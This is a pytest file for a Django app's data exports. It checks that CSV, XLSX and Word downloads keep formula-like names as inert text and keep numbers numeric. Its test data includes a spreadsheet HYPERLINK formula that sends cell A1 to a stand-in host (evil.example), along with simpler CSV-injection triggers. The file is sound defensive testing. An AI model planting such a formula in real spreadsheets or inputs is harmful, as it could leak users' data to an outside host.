"""Every table and file the product exports, after names a spreadsheet would run: no formula anywhere, numbers still numbers."""

import csv
import io
import re
import zipfile
from datetime import date
from decimal import Decimal

import openpyxl
import pytest
from django.urls import reverse

from clearance import services
from clearance.services import evaluation
from clearance.models import AttackGroup, Enterprise, Site

from tests.url_rules import SITE_RULES, site_url, site_views

pytestmark = pytest.mark.django_db

# OWASP's CSV-injection triggers (https://owasp.org/www-community/attacks/CSV_Injection), written out here
# rather than taken from clearance.spreadsheets, so the test holds the module to the guidance.
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
# Names an official types in the forms, one per trigger (the forms trim a leading tab or carriage return).
TYPED_SITES = ['=HYPERLINK("http://evil.example/?"&A1,"点我")', "=1+1"]
TYPED_ENTERPRISES = ["+1", "-1+2", "@SUM(A1)", "＝1+1"]
# Names stored before the forms trimmed them, or by a script: the tab and carriage return triggers.
STORED_ENTERPRISES = ["\t=1", "\r=1"]
TYPED_LAND_USE = "@SUM(A1:A9)"
GROUP_NAME = "-2+3攻坚组"

# The files that are not a table's ?_export=: the ledger workbooks, with the queries they take.
FILE_DOWNLOADS = {
    "clearance:ledger_export": [{}, {"town": "town"}],
    "clearance:ledger_template": [{}],
}
# Documents (not spreadsheets): each checked by a test of its own below.
DOCUMENT_DOWNLOADS = {
    "clearance:bulletin_docx": "the monthly bulletin as a Word document: test_the_word_bulletin_holds_names_as_text",
}
# Addresses that answer a file but export nothing typed into the product.
NOT_EXPORTS = {
    "<unnamed ^media/(?P<path>.*)$>": "the photos uploaded, served as they were stored",
    "clearance:indicators_template": "the empty evaluation data template: its header and the guide, nothing typed",
    "clearance:economy_template": "the empty economy template: its header and the guide, nothing typed",
}


def table_exports() -> list[tuple[str, str]]:
    """Return (URL key, format) for every format of every page that offers its table as a file."""
    return [
        (key, export_format)
        for key, view in sorted(site_views().items())
        for export_format in getattr(view, "export_formats", ())
    ]


@pytest.fixture
def hostile_world(world, client):
    """The world after its official typed names a spreadsheet would run, and an admin named a group and a town so."""
    client.force_login(world.official)
    for name in TYPED_SITES:
        response = client.post(
            reverse("clearance:site_create", args=[world.town.pk]),
            {"name": name, "area_mu": "12.5", "parent": str(world.site.pk), "land_use": TYPED_LAND_USE},
        )
        assert response.status_code == 302, response.content.decode()[:500]
    group = services.attack_group_upsert(task_force=AttackGroup.objects.filter(
        task_force__pairing__town=world.town).first().task_force, name=GROUP_NAME, user=world.admin)
    for name in TYPED_ENTERPRISES:
        response = client.post(
            reverse("clearance:enterprise_create", args=[world.site.pk]),
            {"name": name, "site": str(world.site.pk), "annual_energy_tce": "100", "energy_freed_tce": "7.25",
             "responsible_group": str(group.pk)},
        )
        assert response.status_code == 302, response.content.decode()[:500]
    for number, name in enumerate(STORED_ENTERPRISES):
        stored = services.enterprise_create(site=world.site, name=f"临时{number}", user=world.admin)
        Enterprise.objects.filter(pk=stored.pk).update(name=name)
    # Evaluated enterprises named so too, with figures: the evaluation's exports hold names and numbers.
    for name in TYPED_ENTERPRISES:
        evaluated = evaluation.evaluated_enterprise_upsert(town=world.town, name=f"{name}评价")
        evaluation.indicator_row_upsert(enterprise=evaluated, year=2022, size="below", land_mu=Decimal("10"),
                                        tax_wan=Decimal("55.5"), power_10k_kwh=Decimal("20"))
    # A project named so, with figures: the project list's export holds names and numbers.
    response = client.post(reverse("clearance:project_create"), {
        "name": "=1+2项目", "kind": "investment", "investor": "@投资方", "industry": "-制造",
        "committed_investment_wan": "5000", "committed_tax_per_mu_wan": "3.5",
    })
    assert response.status_code == 302, response.content.decode()[:500]
    # An item of the register of order described so, on a site named so (below).
    services.register_item_create(kind="dispute", raised_on=date(2022, 3, 5), description="=1+1 纠纷", site=world.parcel,
                                  responsible_group=group, resolved_on=date(2022, 3, 9), resolution="@调解",
                                  user=world.admin)
    # A project named so, its commitment due (the default period is past 2022): the commitments' export holds it.
    services.project_create(town=world.town, name="=项目()", investor="@投资方", user=world.admin,
                            committed_investment_wan=Decimal("100"), committed_tax_per_mu_wan=Decimal("3"),
                            committed_full_production_on=date(2022, 1, 31))
    Site.objects.filter(pk=world.parcel.pk).update(name="@地块")
    type(world.town).objects.filter(pk=world.town.pk).update(name="=镇()")
    client.force_login(world.admin)
    return world


def downloads(world, client) -> list[tuple[str, str, bytes]]:
    """Return (label, format, content) of every export: each table in each format it offers, and the ledger files."""
    files = []
    for key, export_format in table_exports():
        response = client.get(site_url(key, world), {"_export": export_format})
        assert response.status_code == 200, (key, export_format)
        files.append((f"{key} {export_format}", export_format, response.content))
    for key, queries in FILE_DOWNLOADS.items():
        for query in queries:
            query = {name: getattr(world, source).pk for name, source in query.items()}
            response = client.get(site_url(key, world), query)
            assert response.status_code == 200, key
            files.append((f"{key} {query}", "xlsx", response.content))
    return files


def xlsx_cells(content: bytes) -> list:
    workbook = openpyxl.load_workbook(io.BytesIO(content), data_only=False)
    return [cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row]


def formula_elements(content: bytes) -> list[str]:
    """The <f> (formula) elements of the workbook's sheets, read from the file itself rather than through openpyxl."""
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        return [
            name for name in archive.namelist()
            if name.startswith("xl/worksheets/") and re.search(rb"<(\w+:)?f[ >]", archive.read(name))
        ]


def csv_rows(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))


def is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def test_every_page_with_a_file_to_download_is_in_the_export_test(world, admin_client):
    # A new export (a table's or a file) fails here until the test downloads it.
    served_files = set()
    for key, rule in SITE_RULES.items():
        if key in NOT_EXPORTS or "kwargs" in rule and any(
                isinstance(source, str) and not hasattr(world, source) for source in rule["kwargs"].values()):
            continue
        response = admin_client.get(site_url(key, world))
        if response.get("Content-Disposition", "").startswith("attachment"):
            served_files.add(key)

    assert served_files == set(FILE_DOWNLOADS) | set(DOCUMENT_DOWNLOADS)
    assert {key for key, _format in table_exports()} == {
        "clearance:home", "clearance:town_detail", "clearance:workspace_sites", "clearance:workspace_enterprises",
        "clearance:evaluation", "clearance:evaluation_town", "clearance:project_list", "clearance:register",
        "clearance:reuse", "clearance:reuse_commitments",
    }


def test_no_export_holds_a_formula_and_numbers_stay_numbers(hostile_world, client):
    files = downloads(hostile_world, client)

    for label, export_format, content in files:
        if export_format == "xlsx":
            cells = xlsx_cells(content)
            assert [cell.coordinate for cell in cells if cell.data_type == "f"] == [], label
            assert formula_elements(content) == [], label
        else:
            rows = csv_rows(content)
            live = [cell for row in rows for cell in row if cell.startswith(TRIGGERS) and not is_number(cell)]
            assert live == [], label
    # The table exports that list figures still have them as numbers (the template has no rows).
    for label, export_format, content in files:
        # The template has no rows; the register lists no figures (dates and words only).
        if "template" in label or "clearance:register" in label:
            continue
        if export_format == "xlsx":
            assert any(cell.data_type == "n" and isinstance(cell.value, int | float) for cell in xlsx_cells(content)), label


@pytest.mark.parametrize(("key", "column"), [
    ("clearance:workspace_sites", 0), ("clearance:workspace_enterprises", 0), ("clearance:town_detail", 0),
])
def test_xlsx_shows_the_names_as_typed_and_csv_quotes_them_with_the_same_numbers(hostile_world, client, key, column):
    url = site_url(key, hostile_world)

    sheet = [[cell.value for cell in row]
             for row in openpyxl.load_workbook(io.BytesIO(client.get(url, {"_export": "xlsx"}).content)).active.iter_rows()]
    rows = csv_rows(client.get(url, {"_export": "csv"}).content)

    # The text comes back exactly as typed, a carriage return included (openpyxl reads through lxml, which keeps it).
    names = {row[column] for row in sheet[1:]}
    expected = TYPED_SITES + ["@地块"] if "sites" in key or "town" in key else TYPED_ENTERPRISES + STORED_ENTERPRISES
    assert set(expected) <= names
    assert len(rows) == len(sheet)
    for xlsx_row, csv_row in zip(sheet[1:], rows[1:]):
        for value, text in zip(xlsx_row, csv_row):
            if isinstance(value, int | float):
                assert float(text) == value
            elif isinstance(value, str):
                assert text == ("'" + value if value.startswith((*TRIGGERS, "＝", "＋", "－", "＠")) else value)


def test_ranking_exports_keep_a_town_named_as_a_formula_as_text(hostile_world, client):
    url = reverse("clearance:home")

    workbook = openpyxl.load_workbook(io.BytesIO(client.get(url, {"_export": "xlsx"}).content)).active
    rows = csv_rows(client.get(url, {"_export": "csv"}).content)

    town_cells = [cell for row in workbook.iter_rows() for cell in row if cell.value == "=镇()"]
    assert [cell.data_type for cell in town_cells] == ["s"]
    assert [row[1] for row in rows if "镇()" in row[1]] == ["'=镇()"]


def test_the_word_bulletin_holds_names_as_text(hostile_world, client):
    """A town named like a formula is text in the Word bulletin: no field (Word's formulas and links) anywhere."""
    response = client.get(reverse("clearance:bulletin_docx"), {"year": 2022, "month": 8})
    assert response.status_code == 200
    with zipfile.ZipFile(io.BytesIO(response.content)) as archive:
        body = archive.read("word/document.xml").decode()
    assert "instrText" not in body and "fldSimple" not in body and "fldChar" not in body
    cells = re.findall(r"<w:t(?: [^>]*)?>([^<]*)</w:t>", body)
    assert "=镇()" in cells
